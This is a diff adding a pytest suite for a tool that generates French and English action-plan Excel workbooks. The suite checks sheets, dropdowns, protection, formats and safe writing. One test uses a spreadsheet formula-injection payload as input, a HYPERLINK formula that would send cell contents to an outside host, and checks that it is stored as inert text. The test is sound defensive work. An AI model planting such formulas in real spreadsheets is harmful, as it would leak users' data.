@@ -1,0 +1,260 @@
+"""The generated workbook, read back with a second library (openpyxl)."""
+
+from __future__ import annotations
+
+import re
+import zipfile
+from datetime import date, datetime
+
+import openpyxl
+import pytest
+
+from helpers import LANGS, TEMPLATES, make, resolve_name, table_cells, zip_text
+from pac_excel import GenerateOptions, PlanData, generate, schema
+from pac_excel.errors import OutputExistsError, UsageError
+from pac_excel.templates import get_template
+
+CASES = [(t, lang) for t in TEMPLATES for lang in LANGS]
+
+
+@pytest.fixture(scope="module")
+def books(tmp_path_factory):
+    d = tmp_path_factory.mktemp("gen")
+    return {(t, lang): make(d, f"{t}_{lang}.xlsx", template=t, lang=lang, year=2026) for t, lang in CASES}
+
+
+@pytest.mark.parametrize("template, lang", CASES)
+def test_sheets_follow_the_template_and_language(books, template, lang):
+    wb = openpyxl.load_workbook(books[template, lang])
+    expected = [schema.sheet_name(s.kind, lang) for s in get_template(template).sheets] + [schema.META_SHEET_NAME]
+    assert wb.sheetnames == expected
+    assert wb[schema.META_SHEET_NAME].sheet_state == "hidden"
+
+
+@pytest.mark.parametrize("template, lang", CASES)
+def test_workbook_says_which_template_version_and_language_it_is(books, template, lang):
+    wb = openpyxl.load_workbook(books[template, lang])
+    values = {k: resolve_name(wb, f"pac_{k}")[1][0].value for k in ("template", "version", "lang")}
+    assert values == {"template": template, "version": get_template(template).version, "lang": lang}
+
+
+@pytest.mark.parametrize("template, lang", CASES)
+def test_table_headers_are_the_schema_labels(books, template, lang):
+    wb = openpyxl.load_workbook(books[template, lang])
+    tpl = get_template(template)
+    for kind in ("actions", "tasks", "kpis", "rituals", "obstacles"):
+        if not tpl.has(kind):
+            continue
+        ws = wb[schema.sheet_name(kind, lang)]
+        table = ws.tables[schema.TABLE_BY_KEY[kind].table_name]
+        headers, _ = table_cells(ws, table)
+        assert headers == [c.label(lang) for c in tpl.columns(kind)]
+
+
+@pytest.mark.parametrize("template, lang", CASES)
+def test_every_dropdown_points_at_a_real_range_with_the_right_values(books, template, lang):
+    wb = openpyxl.load_workbook(books[template, lang])
+    seen = set()
+    for ws in wb.worksheets:
+        for dv in ws.data_validations.dataValidation:
+            if dv.type != "list":
+                continue
+            name = dv.formula1
+            assert name in wb.defined_names, f"{ws.title} {dv.sqref}: {name} is not defined"
+            target_ws, cells = resolve_name(wb, name)
+            assert cells, name
+            seen.add(name)
+            key = name.removeprefix("list_")
+            if key in schema.LIST_BY_KEY and schema.LIST_BY_KEY[key].values:
+                assert [c.value for c in cells][: len(schema.LIST_BY_KEY[key].values)] == \
+                    schema.LIST_BY_KEY[key].labels(lang)
+            if name == schema.OBJECTIVE_IDS:
+                assert [c.value for c in cells[:3]] == ["OBJ-1", "OBJ-2", "OBJ-3"]
+            if name == "list_owner":
+                assert len(cells) == schema.OWNERS.size and not any(c.protection.locked for c in cells)
+    assert "list_status" in seen and "list_owner" in seen
+
+
+@pytest.mark.parametrize("template, lang", CASES)
+def test_computed_cells_locked_input_cells_unlocked(books, template, lang):
+    wb = openpyxl.load_workbook(books[template, lang])
+    checked = 0
+    for ws in wb.worksheets:
+        for table in ws.tables.values():
+            tdef = next(t for t in schema.TABLES if t.table_name == table.name)
+            headers, rows = table_cells(ws, table)
+            by_label = {c.label(lang): c for c in tdef.columns}
+            for row in rows:
+                for label, cell in zip(headers, row):
+                    col = by_label[label]
+                    assert cell.protection.locked == col.computed, (ws.title, cell.coordinate)
+                    if col.computed:
+                        assert isinstance(cell.value, str) and cell.value.startswith("="), cell.coordinate
+                    checked += 1
+    assert checked > 100
+
+
+@pytest.mark.parametrize("template, lang", CASES)
+def test_computed_sheets_protected_input_sheets_open_by_default(books, template, lang):
+    wb = openpyxl.load_workbook(books[template, lang])
+    for spec in get_template(template).sheets:
+        ws = wb[schema.sheet_name(spec.kind, lang)]
+        fully_computed = spec.kind in ("guide", "planning", "dashboard", "lists")
+        assert bool(ws.protection.sheet) == fully_computed, ws.title
+        if fully_computed:
+            assert ws.protection.password is None  # protected without password
+
+
+def test_protect_option_protects_input_sheets_too(tmp_path):
+    wb = openpyxl.load_workbook(make(tmp_path, protect=True))
+    assert wb[schema.sheet_name("actions", "fr")].protection.sheet
+    assert wb[schema.sheet_name("strategy", "fr")].protection.sheet
+
+
+def test_action_table_can_grow_and_fill_its_formulas(tmp_path):
+    """Excel extends a Table when a row is typed just below it, and copies a column's
+    calculatedColumnFormula into the new row; a totals row would stop the growth."""
+    path = make(tmp_path, actions=7)
+    wb = openpyxl.load_workbook(path)
+    ws = wb[schema.sheet_name("actions", "fr")]
+    table = ws.tables["T_Actions"]
+    c0, r0, c1, r1 = openpyxl.utils.cell.range_boundaries(table.ref)
+    assert r1 - r0 == 7 and not table.totalsRowCount and table.autoFilter is not None
+    xml = next(zip_text(path, n) for n in zipfile.ZipFile(path).namelist()
+               if n.startswith("xl/tables/") and 'name="T_Actions"' in zip_text(path, n))
+    formulas = dict(re.findall(r'<tableColumn [^>]*name="([^"]+)"[^>]*><calculatedColumnFormula>([^<]+)<', xml))
+    computed = {c.label("fr") for c in schema.ACTIONS.columns if c.computed}
+    assert set(formulas) == computed
+    # every data row holds exactly the calculated column formula
+    headers, rows = table_cells(ws, table)
+    for label, f in formulas.items():
+        f = f.replace("&quot;", '"').replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")
+        col = headers.index(label)
+        assert {row[col].value for row in rows} == {"=" + f}
+
+
+@pytest.mark.parametrize("n", [1, 50, 120])
+def test_actions_option_sets_the_number_of_rows(tmp_path, n):
+    wb = openpyxl.load_workbook(make(tmp_path, actions=n))
+    ws = wb[schema.sheet_name("actions", "fr")]
+    c0, r0, c1, r1 = openpyxl.utils.cell.range_boundaries(ws.tables["T_Actions"].ref)
+    assert r1 - r0 == n
+
+
+def test_formats_are_french_money_and_dates(tmp_path):
+    wb = openpyxl.load_workbook(make(tmp_path))
+    ws = wb[schema.sheet_name("actions", "fr")]
+    headers, rows = table_cells(ws, ws.tables["T_Actions"])
+    row = rows[0]
+    fmt = {h: row[i].number_format for i, h in enumerate(headers)}
+    assert fmt["Date début"] == "dd/mm/yyyy" and fmt["Date fin"] == "dd/mm/yyyy"
+    assert fmt["Budget prévu"].startswith('#,##0 "€"')  # shown as "# ##0 €" in French Excel
+    assert fmt["Taux d’atteinte"] == "0%"
+    assert ws.freeze_panes == "D5"  # header row and the N°, Objectif lié, Action columns stay visible
+    assert ws.print_title_rows == "$4:$4" and ws.page_setup.orientation == "landscape"
+    assert ws.page_setup.fitToWidth in (None, 1) and ws.page_setup.fitToHeight == 0  # 1 page wide (1 = default)
+    assert ws.sheet_properties.pageSetUpPr.fitToPage and ws.page_setup.paperSize == 8  # A3 for 27 columns
+
+
+def test_date_validation_refuses_end_before_start(tmp_path):
+    wb = openpyxl.load_workbook(make(tmp_path))
+    ws = wb[schema.sheet_name("actions", "fr")]
+    headers, rows = table_cells(ws, ws.tables["T_Actions"])
+    end = rows[0][headers.index("Date fin")].coordinate
+    start = rows[0][headers.index("Date début")].coordinate
+    rules = [dv for dv in ws.data_validations.dataValidation if end in dv.sqref]
+    assert len(rules) == 1 and rules[0].type == "custom"
+    f = rules[0].formula1.replace("$", "")
+    assert f"{end}>={start}" in f and "ISNUMBER" in f
+    assert rules[0].errorStyle in (None, "stop") and "date" in rules[0].error.lower()
+
+
+def test_text_from_content_is_written_as_text_never_as_formula(tmp_path):
+    data = PlanData(company="=HYPERLINK(\"http://x/?d=\"&A1,\"Clic\")",
+                    actions=[{"action": "=1+1", "owner": "@SUM(A1)", "steps": "http://example.invalid/x"}])
+    wb = openpyxl.load_workbook(generate(tmp_path / "t.xlsx", GenerateOptions(), data))
+    ws = wb[schema.sheet_name("actions", "fr")]
+    headers, rows = table_cells(ws, ws.tables["T_Actions"])
+    assert rows[0][headers.index("Action")].data_type == "s"
+    assert rows[0][headers.index("Action")].value == "=1+1"
+    assert rows[0][headers.index("Qui")].data_type == "s"
+    strat = wb[schema.sheet_name("strategy", "fr")]
+    assert strat["B4"].data_type == "s" and strat["B4"].value.startswith("=HYPERLINK")
+    assert not ws._hyperlinks
+
+
+def test_same_inputs_give_the_same_bytes(tmp_path):
+    opts = dict(year=2026, created=datetime(2026, 1, 1))
+    a = generate(tmp_path / "a.xlsx", GenerateOptions(**opts)).read_bytes()
+    b = generate(tmp_path / "b.xlsx", GenerateOptions(**opts)).read_bytes()
+    assert a == b
+
+
+def test_existing_file_is_kept_unless_forced(tmp_path):
+    target = tmp_path / "plan.xlsx"
+    target.write_bytes(b"precious")
+    with pytest.raises(OutputExistsError) as err:
+        generate(target, GenerateOptions())
+    assert "--force" in err.value.message("en") and "--force" in str(err.value)
+    assert target.read_bytes() == b"precious"
+    generate(target, GenerateOptions(force=True))
+    assert zipfile.is_zipfile(target)
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["plan.xlsx"]  # no temporary file left
+
+
+def test_failed_write_leaves_nothing_behind(tmp_path, monkeypatch):
+    import pac_excel.generator as gen
+
+    def boom(*a, **k):
+        raise OSError("disk full")
+
+    monkeypatch.setattr(gen, "_write", boom)
+    with pytest.raises(Exception) as err:
+        generate(tmp_path / "plan.xlsx", GenerateOptions())
+    assert "disk full" in str(err.value)
+    assert list(tmp_path.iterdir()) == []
+
+
+@pytest.mark.parametrize("opts, key", [
+    (dict(lang="de"), "err.lang"), (dict(year=1999), "err.year"), (dict(actions=0), "err.actions"),
+    (dict(template="nope"), "err.template_unknown"),
+])
+def test_bad_requests_are_usage_errors(tmp_path, opts, key):
+    with pytest.raises(UsageError) as err:
+        generate(tmp_path / "p.xlsx", GenerateOptions(**opts))
+    assert err.value.key == key and err.value.exit_code == 2
+
+
+def test_trame_lists_the_families_of_actions(tmp_path):
+    tpl = get_template("trame")
+    families = [row["action"]["fr"] for row in tpl.prefill["actions"]]
+    assert len(families) == 15
+    wb = openpyxl.load_workbook(make(tmp_path, template="trame"))
+    ws = wb[schema.sheet_name("actions", "fr")]
+    headers, rows = table_cells(ws, ws.tables["T_Actions"])
+    assert "Phase du plan" in headers
+    written = [r[headers.index("Action")].value for r in rows if r[headers.index("Action")].value]
+    assert written == families
+    phases = {r[headers.index("Phase du plan")].value for r in rows[:15]}
+    assert phases == {"Préparatoire", "Opérationnelle"}
+
+
+def test_objectif_template_is_one_objective_with_tasks_budget_and_indicators(tmp_path):
+    wb = openpyxl.load_workbook(make(tmp_path, template="objectif", lang="en"))
+    ws = wb["Tasks"]
+    headers, _ = table_cells(ws, ws.tables["T_Taches"])
+    assert headers[:6] == ["Task", "Owner", "Deadline", "Duration (days)", "Means", "Budget"]
+    kp = wb["Indicators"]
+    headers, _ = table_cells(kp, kp.tables["T_Indicateurs"])
+    assert {"Initial value", "Target value", "Latest value", "Attainment"} <= set(headers)
+
+
+def test_company_team_year_reach_the_strategy_sheet(tmp_path):
+    wb = openpyxl.load_workbook(make(tmp_path, company="ACME", team="Agence Lyon", year=2027))
+    ws = wb[schema.sheet_name("strategy", "fr")]
+    assert (ws["B4"].value, ws["B5"].value, ws["B6"].value) == ("ACME", "Agence Lyon", "2027")
+    rev = wb[schema.sheet_name("revenue", "fr")]
+    assert rev["D5"].value == 2027
+    plan = wb[schema.sheet_name("planning", "fr")]
+    assert plan["G5"].value == datetime(2027, 1, 1) and plan["R5"].value == datetime(2027, 12, 1)
+    assert date.today()  # year default is covered by test_cli
